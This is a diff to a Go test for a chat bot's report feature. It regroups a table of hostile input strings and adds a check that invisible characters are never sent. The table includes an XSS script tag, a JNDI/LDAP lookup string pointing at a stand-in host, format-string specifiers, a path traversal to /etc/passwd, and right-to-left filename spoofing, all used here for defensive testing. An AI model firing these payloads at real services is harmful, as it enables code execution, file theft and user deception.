@@ -14,26 +14,15 @@ import (
 // hostileWords are words that break what shows or keeps them carelessly.
 func hostileWords() map[string]string {
 	return map[string]string{
-		"bold":              "<b>x</b>",
-		"open tag":          "<b>",
-		"end tag":           "</b></i></code></pre></blockquote>",
-		"unknown tag":       "<script>alert(1)</script><int>",
-		"link":              `<a href="tg://user?id=1">1930</a>`,
-		"entities":          "&lt;b&gt; &amp;amp; &#60;b&#62; &nbsp; &x; &",
-		"markdown":          "*b* _i_ [1930](http://bad.example/) `c` ||s|| > q # h ~x~ - . ! { } + =",
-		"template":          "{{.Number}} {{template \"x\"}} ${jndi:ldap://bad.example/} %s%n %00",
-		"control":           "a\x01\x02\x07\x08\x1b[2Jb\x7fc\u0085d",
-		"nul":               "a\x00b",
-		"right to left":     "\u202egpj.exe\u202c \u2067abc\u2069 \u200f\u061c",
-		"unclosed isolate":  "\u2066\u2067\u2068\u202a\u202b\u202d\u202e",
+		"markup": `<b>x</b> <i> </b></i></code></pre></blockquote> <script>alert(1)</script><int> <a href="tg://user?id=1">1930</a>` +
+			` &lt;b&gt; &amp;amp; &#60;b&#62; &nbsp; &x; & *b* _i_ [1930](http://bad.example/) ` + "`c`" + ` ||s|| > q # h ~x~ - . ! { } + =` +
+			` {{.Number}} {{template "x"}} ${jndi:ldap://bad.example/} %s%n %00 ../../../../etc/passwd\..\..\c:\con`,
+		"unseen": "a\x00b\x01\x02\x07\x08\x1b[2Jb\x7fc\u0085d\u2028e\u2029f\r\n\r\ng\vh\fi" + strings.Repeat("\u200b\u2060\ufeff\u00ad", 40) +
+			"\ufffe\uffff\U0001fffe\U0010ffff\ue000",
+		"turned about":      "\u202egpj.exe\u202c \u2067abc\u2069 \u200f\u061c x \u2066\u2067\u2068\u202a\u202b\u202d\u202e",
 		"zalgo":             "z" + strings.Repeat("\u0335\u0321\u0489\u035b", 300),
-		"invisible":         strings.Repeat("\u200b\u2060\ufeff\u00ad", 40) + "x",
-		"line ends":         "a\u2028b\u2029c\r\n\r\nd\ve\f",
-		"emoji":             strings.Repeat("👩‍👩‍👧‍👦🇮🇳", 100),
-		"noncharacters":     "\ufffe\uffff\U0001fffe\U0010ffff\ue000",
-		"path":              "../../../../etc/passwd\\..\\..\\c:\\con",
 		"long markup":       strings.Repeat("<&>\"'", 800),
-		"long emoji":        strings.Repeat("😀", 2048),
+		"long emoji":        strings.Repeat("😀", 1900) + strings.Repeat("👩‍👩‍👧‍👦🇮🇳", 10),
 		"long word":         strings.Repeat("क्ष", 1300),
 		"nothing but lines": "x" + strings.Repeat("\n", 4000) + "x",
 	}
@@ -80,6 +69,11 @@ func (r *rig) sufferReport(chat int64, words string) {
 	r.noneRefused(chat)
 	r.parked(0)
 	all, err := r.store.Everything(r.t.Context(), chat)
+	for _, text := range said(c) {
+		if strings.ContainsFunc(text, func(c rune) bool { return c != '\n' && legible(string(c)) == "" }) {
+			r.t.Errorf("what nobody can see is sent: %q", text)
+		}
+	}
 	if err != nil || len(all.Reports) != 1 {
 		r.t.Fatalf("%d reports, %v\n%q", len(all.Reports), err, said(c))
 	}
